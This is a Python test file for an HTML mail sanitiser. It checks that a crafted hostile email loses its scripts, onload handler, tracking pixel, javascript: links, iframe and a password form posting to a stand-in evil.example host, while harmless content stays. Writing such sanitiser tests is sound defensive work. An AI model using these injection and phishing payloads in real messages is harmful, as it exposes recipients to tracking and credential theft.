"""HTML mail is shown inert: no scripts, no remote images, forms reduced to text, no javascript: links."""

from desktop.services.mail.mail_html import sanitise

HOSTILE = """
<html><head><title>x</title><style>body{background:url(https://evil.example/bg.png)}</style>
<script>alert(1)</script></head>
<body onload="steal()">
<p>Dzień dobry, <b>oferta</b> w załączniku.</p>
<img src="https://tracker.example/pixel.gif?u=anna" width="1" height="1">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">
<a href="javascript:alert(2)">kliknij</a> <a href="https://klient.example/katalog">katalog</a>
<form action="https://evil.example/login" method="post"><input name="haslo" value="x"><button>Wyślij</button></form>
<iframe src="https://evil.example/frame"></iframe>
<svg><script>alert(3)</script></svg><div style="background-image:url(https://evil.example/x)">tło</div>
<!-- <script>alert(4)</script> -->
</body></html>
"""


def test_scripts_remote_images_and_forms_are_made_inert():
    clean = sanitise(HOSTILE)
    lowered = clean.lower()
    for gone in ("<script", "alert(", "onload", "tracker.example", "evil.example", "javascript:", "<form", "<input",
                 "<button", "<iframe", "<style", "style=", "<!--"):  # fmt: skip
        assert gone not in lowered, gone
    assert "<p>Dzień dobry, <b>oferta</b> w załączniku.</p>" in clean
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in clean
    assert '<a href="https://klient.example/katalog" rel="noopener noreferrer">katalog</a>' in clean
    assert "Wyślij" in clean  # a form's text stays readable


def test_empty_html_stays_empty():
    assert sanitise("") == ""
